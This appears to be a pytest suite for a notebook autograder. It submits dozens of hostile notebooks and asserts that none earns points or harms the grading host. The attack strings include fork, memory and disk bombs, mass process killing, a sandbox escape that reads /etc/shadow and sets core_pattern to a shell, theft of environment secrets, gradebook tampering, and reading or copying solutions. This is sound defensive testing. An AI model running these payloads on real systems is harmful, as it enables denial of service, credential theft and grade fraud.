"""Submissions that want points they did not earn, or harm: none gains or does any.

All are handed in for one run of the real command. Each attacks a lesson in which nothing is
solved, so that each point in its score is one that it took.
"""

import http.server
import json
import re
import threading

import pytest
from classroom import Classroom, Descendants, cell_of, mark, solved, untouched, with_cell
from lessons import ROOT, exercises

LESSON = "00-start-here"
FIRST, SECOND = exercises(LESSON)
LIMIT = 24
BEGINS = "The attack begins."

# In place of both exercises where it defines them, else in a cell of its own above everything.
# COURSE and PORT are filled in.
ATTACKS = {
    "numpy_finds_all_equal": """
import numpy as np
np.array_equal = np.allclose = np.all = np.any = lambda *_, **__: True
np.ndarray = np.asarray = np.array = lambda *_, **__: 255
""",
    "every_assert_holds": """
import builtins
builtins.AssertionError = type("Quiet", (BaseException,), {})
builtins.isinstance = lambda *_: True
builtins.exec = builtins.compile = builtins.eval = lambda *_, **__: None
""",
    "the_checks_are_replaced": """
import sys, kquant_helpers, kquant_helpers.checks.ladder, kquant_helpers.checks.start_here as lesson
kquant_helpers.check = lambda *_: True
for module in list(sys.modules.values()):
    for name in dir(module):
        if name.startswith(("check", "ask", "refuses", "more_")):
            setattr(module, name, lambda *_, **__: True)
""",
    "the_wire_is_replaced": """
from kquant_helpers.grading import wire, student
from kquant_helpers.checks import calls
calls.call = lambda *_, **__: calls.Outcome(True, (), None, ())
wire.pack = lambda message: b"\\0" * 16
""",
    "the_shell_is_replaced": """
get_ipython().run_cell = lambda *_, **__: True
get_ipython().showtraceback = lambda *_, **__: None
""",
    "the_exercise_is_in_the_builtins": """
import builtins
builtins.keep_top_bits = builtins.gray_ramp = lambda *_: True
""",
    "equal_to_everything": """
class All:
    def __eq__(self, other): return True
    __ne__ = __lt__ = __gt__ = __le__ = __ge__ = __eq__
    __hash__ = None
    def __array__(self, *_, **__): return self
    def __getattr__(self, name): return self
    def __call__(self, *_, **__): return self
    def __len__(self): return 1
    def __iter__(self): return iter([self])
    def __bool__(self): return True
def keep_top_bits(*_): return All()
def gray_ramp(*_): return All()
""",
    "an_array_equal_to_everything": """
import numpy as np
class All(np.ndarray):
    def __eq__(self, other): return np.ones(self.shape, bool)
    def __array_ufunc__(self, *_, **__): return np.bool_(True)
    def __array_function__(self, *_, **__): return True
def keep_top_bits(image, bits): return np.zeros_like(image).view(All)
def gray_ramp(height, width): return np.zeros((height, width), np.uint8).view(All)
""",
    "a_pickle_bomb": """

class Bomb:
    def __reduce__(self): return os.system, ("touch COURSE/MARK",)
    def __repr__(self): os.system("touch COURSE/MARK"); return "x"
def keep_top_bits(*_): return Bomb()
def gray_ramp(*_): return [Bomb()] * 3
""",
    "a_value_without_end": """
def keep_top_bits(*_):
    value = []; value.append(value); return value
def gray_ramp(*_): return 1 << 10**9
""",
    "a_value_of_gigabytes": """
import numpy as np
def keep_top_bits(*_): return np.zeros(2**30, np.uint8)
def gray_ramp(*_): return [0] * 10**8
""",
    "an_array_of_no_bytes_and_endless_shape": """
import numpy as np
def keep_top_bits(*_): return np.broadcast_to(np.uint8(0), (2**20, 2**20))
def gray_ramp(*_): return np.zeros((0, 2**40), np.uint8)
""",
    "an_array_of_objects": """
import numpy as np
class Yes:
    def __eq__(self, other): return True
def keep_top_bits(image, bits): return np.full(image.shape, Yes(), object)
def gray_ramp(height, width): return np.full((height, width), Yes(), object)
""",
    "an_error_that_is_a_pass": """
import kquant_helpers
class Done(BaseException):
    def __str__(self): raise SystemExit(0)
def keep_top_bits(*_): raise Done
def gray_ramp(*_): raise kquant_helpers.check.__class__
""",
    "stack_inspection": """
import gc, sys, numpy as np
def keep_top_bits(image, bits):
    frame, seen = sys._getframe(), []
    while frame:
        seen += [v for v in frame.f_locals.values() if isinstance(v, np.ndarray)]
        frame = frame.f_back
    seen += [v for v in gc.get_objects() if isinstance(v, np.ndarray) and v.shape == image.shape]
    return next((v for v in seen if v is not image and (v != image).any()), image)
""",
    "reads_the_solutions": """
import glob, json, re
for path in glob.glob("COURSE/**/*.ipynb", recursive=True) + glob.glob("/**/solutions/*/*.ipynb"):
    for cell in json.load(open(path))["cells"]:
        exec("".join(cell["source"]))
""",
    "reads_the_gradebook": """
import sqlite3
rows = sqlite3.connect("file:COURSE/gradebook.db?mode=ro", uri=True).execute(
    "select source from source_cell").fetchall()
open("COURSE/MARK", "w").write(str(rows))
""",
    "writes_the_gradebook": """
import sqlite3
book = sqlite3.connect("COURSE/gradebook.db")
book.execute("update grade set auto_score = 16, manual_score = 16")
book.commit()
""",
    "copies_another_submission": """
import glob, json
for path in glob.glob("COURSE/submitted/*/*/*.ipynb"):
    for cell in json.load(open(path))["cells"]:
        try: exec("".join(cell["source"]))
        except Exception: pass
""",
    "reads_secrets": """

def keep_top_bits(*_): return os.environ["KQUANT_TEST_SECRET"]
print(os.environ, open("/proc/1/environ").read())
""",
    "calls_home": """
import urllib.request
urllib.request.urlopen("http://127.0.0.1:PORT/MARK", timeout=3)
""",
    "kills_whom_it_can": """
import os, signal
for pid in [0, -1, os.getppid(), *range(2, 4000)]:
    if pid != os.getpid():
        try: os.kill(pid, signal.SIGKILL)
        except OSError: pass
""",
    "a_fork_bomb": """

while True:
    try: os.fork()
    except OSError: pass
""",
    "a_memory_bomb": """
blocks = []
while True: blocks.append(bytearray(b"x" * 2**27))
""",
    "memory_in_many_processes": """
import os, time
for _ in range(40):
    if os.fork() == 0:
        block = b"x" * (700 * 2**20)
        time.sleep(60)
        os._exit(0)
time.sleep(6)
""",
    "a_full_disk": """
for folder in ("/tmp", ".", "/dev/shm", "COURSE", "/"):
    try:
        with open(folder + "/fill", "wb") as file:
            while True: file.write(b"x" * 2**24)
    except OSError as error: print(error)
""",
    "a_process_left_behind": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(0.2)
            try: open("COURSE/MARK", "a").write("here")
            except OSError: pass
            os.environ["KQUANT_LEFT_BEHIND"] = "yes"
    os._exit(0)
""",
    "a_loop_without_end": "while True: pass",
    "a_loop_that_nothing_stops": """
import signal
for number in range(1, 64):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True:
    try:
        while True: pass
    except BaseException: pass
""",
    "functions_without_end": """
import signal
def keep_top_bits(*_):
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    while True: pass
gray_ramp = keep_top_bits
""",
    "a_regular_expression_without_end": """
import re
re.match(r"(a+)+$", "a" * 60 + "b")
""",
    "it_stops_itself": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
    "it_ends_itself": "import os\nos._exit(0)",
    "it_crashes": "import ctypes\nctypes.string_at(0)",
    "it_recurses": """

sys.setrecursionlimit(10**8)
def f(x): return f(x) + f(x)
f(1)
""",
    "prints_without_end": """
while True: print("x" * 10**6)
""",
    "garbage_on_every_pipe": """

for number in range(3, 64):
    try: os.write(number, b"\\xff" * 4096)
    except OSError: pass
""",
    "forged_replies": """

from kquant_helpers.grading import wire
reply = wire.pack({"value": True, "arguments": (), "failure": None, "package_calls": (),
                   "outputs": [], "names": ["keep_top_bits", "gray_ramp"], "ready": True})
for number in range(3, 64):
    try: os.write(number, reply * 50)
    except OSError: pass
""",
    "out_of_the_sandbox": """
import ctypes, os
libc = ctypes.CDLL(None)
for flags in (0x10000000, 0x00020000, 0x20000000): libc.unshare(flags)
libc.mount(b"/dev/vda", b"/tmp", b"ext4", 0, None)
libc.setuid(0); libc.chroot(b"/proc/1/root")
os.system("mount -o remount,rw / ; cat /proc/1/root/etc/shadow; echo 1 > /proc/sys/kernel/sysrq")
open("/proc/sys/kernel/core_pattern", "w").write("|/bin/sh")
""",
    "writes_into_the_package": """
import kquant_helpers, numpy, pathlib
for module in (kquant_helpers, numpy):
    (pathlib.Path(module.__file__).parent / "MARK").write_text("x")
""",
    "a_script_on_the_page": """
from IPython.display import HTML, Javascript, display
display(HTML("<script>document.title = 'MARK'</script>"), Javascript("alert('MARK')"))
""",
    "a_range_without_end": """
def keep_top_bits(*_): return range(10**15)
def gray_ramp(*_): return [range(10**9)] * 3
""",
    "half_an_emoji": """
def keep_top_bits(*_): return "\\ud800"
def gray_ramp(*_): raise type("E\\ud800", (ValueError,), {})("\\ud800")
""",
    "errors_that_are_no_exceptions": """
def keep_top_bits(*_): raise KeyboardInterrupt
def gray_ramp(*_): raise type("Own", (BaseException,), {})("x")
""",
    "errors_that_never_say_what_they_are": """
class Slow(Exception):
    def __str__(self): os._exit(0)
def keep_top_bits(*_): raise Slow
gray_ramp = keep_top_bits
""",
    "memory_that_is_nobodys": """
import mmap
held = []
def fill(make):
    try:
        for _ in range(60):
            held.append(make())
            for _ in range(7): os.write(held[-1], b"x" * 2**24)
        print("FILLED")
    except OSError as error: print(error)
fill(lambda: os.memfd_create("x"))
""",
    "doors_that_stay_shut": """
import ctypes, fcntl, glob, socket, termios
libc = ctypes.CDLL(None)
if libc.unshare(0x10000000) == 0: print("MARK namespace of users")
if libc.shmget(0, ctypes.c_size_t(2**30), 0o1666) >= 0: print("MARK shared memory")
if libc.ptrace(16, 1, 0, 0) == 0: print("MARK ptrace")
def tried(name, action):
    try: action()
    except OSError: return
    print("MARK", name)
tried("vsock", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM))
tried("tty", lambda: open("/dev/tty"))
for number in range(9): tried("TIOCSTI", lambda: fcntl.ioctl(number, termios.TIOCSTI, b"x"))
for rights in (os.setuid, os.setgid): tried("root", lambda: rights(0))
for path in ("/etc/passwd", "/etc/shadow", "/root/.ssh", "/home/other", "/sys", "/proc/1/root/etc"):
    tried(path, lambda: os.stat(path))
if len(glob.glob("/proc/[0-9]*")) > 4: print("MARK processes of others")
""",
    "replies_of_its_own": """
from kquant_helpers.grading import student, wire
def reply(replies, answer):
    if "ready" not in answer:
        head = b'{"list": [' + b"[]," * 2**23 + b"[]]}"
        replies.write(wire._HEAD.pack(len(head), 0) + head)
    else:
        replies.write(wire.pack(answer))
    replies.flush()
student._reply = reply
""",
    "outputs_of_its_own": """
from kquant_helpers.grading import student, wire
original = student._reply
def reply(replies, answer):
    if "outputs" in answer:
        text = {"output_type": "stream", "name": "stdout", "text": "x" * 100_000}
        answer = {"names": ["check", "isinstance", "keep_top_bits"], "outputs": [text] * 50}
    original(replies, answer)
student._reply = reply
""",
}  # fmt: skip


def attacked(source, classroom, port):
    """Return an untouched notebook with an attack in it."""
    source = source.replace("COURSE", str(classroom.folder)).replace("PORT", str(port))
    source = f"import os, sys\nprint({BEGINS!r})\n{source}"
    notebook = untouched(LESSON)
    if "keep_top_bits(" not in source:
        return with_cell(notebook, source)
    for name in (FIRST, SECOND):
        cell_of(notebook, name)["source"] = source
    return notebook


def change_tests(notebook, **changes):
    """Change the test cells of an untouched notebook."""
    for cell in notebook["cells"]:
        if mark(cell).get("grade") and cell["cell_type"] == "code":
            cell |= {key: value for key, value in changes.items() if key == "source"}
            cell["metadata"] |= changes.get("metadata", {})
            cell["metadata"]["nbgrader"] |= changes.get("entry", {})
    return notebook


# What is done to the notebook itself.
FORGERIES = {
    "tests_that_pass": lambda nb: change_tests(nb, source="assert True"),
    "tests_that_give_points": lambda nb: change_tests(nb, source="16"),
    "tests_worth_more": lambda nb: change_tests(nb, entry={"points": 1000}),
    "tests_that_are_solutions": lambda nb: change_tests(nb, entry={"solution": True}),
    "tests_that_are_unlocked": lambda nb: change_tests(
        nb, source="pass", entry={"locked": False, "checksum": "0"}
    ),
    "tests_that_are_skipped": lambda nb: change_tests(
        nb, metadata={"tags": ["skip-execution", "raises-exception"]}
    ),
    "points_below_zero": lambda nb: change_tests(nb, source="-1", entry={"points": -16}),
    "a_test_of_its_own": lambda nb: with_cell(nb, f"{FIRST} = {SECOND} = lambda *_: True"),
}

# Files that lie beside the notebook.
BESIDE = {
    "a_package_beside": ("kquant_helpers.py", "check = lambda *_: True\n"),
    "numpy_beside": ("numpy.py", "def __getattr__(name): return lambda *_, **__: True\n"),
    "sitecustomize_beside": ("sitecustomize.py", "import builtins; builtins.AssertionError = int"),
}

KINDS = {**ATTACKS, **FORGERIES, **BESIDE, "a_link_to_the_solutions": None}


class Listener(http.server.BaseHTTPRequestHandler):
    heard = []  # noqa: RUF012 - on purpose one list

    def do_GET(self):
        self.heard.append(self.path)
        self.send_response(200)
        self.end_headers()


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """Hand in all kinds among three honest students, and grade everyone in one run."""
    room = Classroom.of(tmp_path_factory.mktemp("hostile"), LESSON)
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    for kind, source in ATTACKS.items():
        room.hand_in(kind, attacked(source, room, server.server_port))
    for kind, forge in FORGERIES.items():
        room.hand_in(kind, forge(untouched(LESSON)))
    for kind, (name, source) in BESIDE.items():
        room.hand_in(kind, with_cell(untouched(LESSON), f"import {name[:-3]}"))
        (room.place(kind).parent / name).write_text(source)
    room.place("a_link_to_the_solutions").symlink_to(
        room.folder / "solutions" / LESSON / f"{LESSON}.ipynb"
    )
    for student in ("aaa", "mmm", "zzz"):
        room.hand_in(student, solved(LESSON))
    before = fingerprint(room)
    rows, status, alive = grade_and_watch(room)
    server.shutdown()
    return room, rows, status, (before, alive)


def grade_and_watch(room):
    """Grade everyone; return the report, the exit status, and the processes that stay."""
    arguments = ("--workers", 2, "--time-limit", LIMIT, "--report", "report.csv")
    with room.start("grade", LESSON, *arguments) as process, Descendants(process) as family:
        process.communicate()
    assert len(family.look()) > len(KINDS)
    return room.report(), process.returncode, family.alive()


def fingerprint(room):
    """Return what nothing may change: the release, the solutions, what was handed in."""
    return {
        path: path.read_bytes()
        for name in ("course", "solutions", "submitted")
        for path in sorted((room.folder / name).rglob("*"))
        if path.is_file() and not path.is_symlink()
    }


@pytest.mark.parametrize("kind", KINDS)
def test_nothing_is_gained(graded, kind):
    _, rows, _, _ = graded
    row = rows[kind]
    if row["state"] == "graded":
        assert float(row["score"]) == 0
    else:
        assert row["score"] == "" and len(row["reason"]) > 20


def test_honest_students_among_them_get_what_they_earned(graded):
    _, rows, _, _ = graded
    for student in ("aaa", "mmm", "zzz"):
        row = rows[student]
        assert (row["score"], row["state"], row["needs_manual"]) == ("16", "graded", "true")


def test_everyone_is_accounted_for(graded):
    _, rows, status, _ = graded
    assert set(rows) == {*KINDS, "aaa", "mmm", "zzz"}
    assert status == (0 if all(r["state"] == "graded" for r in rows.values()) else 1)


def test_most_that_do_no_more_than_try_are_graded_like_a_blank_one(graded):
    _, rows, _, _ = graded
    not_graded = {kind for kind in KINDS if rows[kind]["state"] != "graded"}
    assert not_graded <= {
        "a_link_to_the_solutions", "a_fork_bomb", "a_loop_that_nothing_stops", "it_stops_itself",
        "functions_without_end", "memory_in_many_processes", "a_regular_expression_without_end",
    }  # fmt: skip


def test_no_submission_costs_more_than_its_limit(graded):
    _, rows, _, _ = graded
    slow = {kind: row["seconds"] for kind, row in rows.items() if float(row["seconds"]) > 2 * LIMIT}
    assert not slow


def test_nothing_of_the_course_is_changed_and_nothing_left_behind(graded):
    room, _, _, (before, alive) = graded
    assert fingerprint(room) == before
    assert Listener.heard == []
    assert not list(room.folder.rglob("MARK")) and not list((ROOT / "kquant_helpers").rglob("MARK"))
    assert alive == []


@pytest.mark.parametrize("kind", ATTACKS)
def test_each_attack_is_made(graded, kind):
    """One that stops at a name it forgot to import would prove nothing."""
    room, rows, _, _ = graded
    if rows[kind]["state"] == "graded":
        path = room.folder / "autograded" / kind / LESSON / f"{LESSON}.ipynb"
        cells = json.loads(path.read_text("utf-8"))["cells"]
        told = str([cell["outputs"] for cell in cells if BEGINS in "".join(cell["source"])])
        assert f"{BEGINS}\\n" in told or "Left out" in told or kind in SILENT
        assert not re.search("NameError|SyntaxError|MARK |FILLED", told)


def test_no_secret_reaches_a_student(graded):
    room, _, _, _ = graded
    for path in (room.folder / "autograded").rglob("*.ipynb"):
        text = path.read_text("utf-8")
        assert "MARK-secret" not in text
        assert "<script>" not in cell_outputs(text)


# What changes the shell or the replies leaves no print.
SILENT = (
    "the_shell_is_replaced", "the_wire_is_replaced", "outputs_of_its_own", "forged_replies",
)  # fmt: skip


def cell_outputs(text):
    return str([cell.get("outputs") for cell in json.loads(text)["cells"]])
